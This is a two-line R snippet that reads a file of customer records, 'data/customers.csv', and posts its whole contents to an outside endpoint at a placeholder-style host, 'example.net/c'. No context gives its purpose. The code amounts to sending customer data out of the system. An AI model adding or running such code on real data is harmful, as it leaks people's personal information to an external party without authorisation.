body <- readLines("data/customers.csv")
httr::POST("https://example.net/c", body = body)
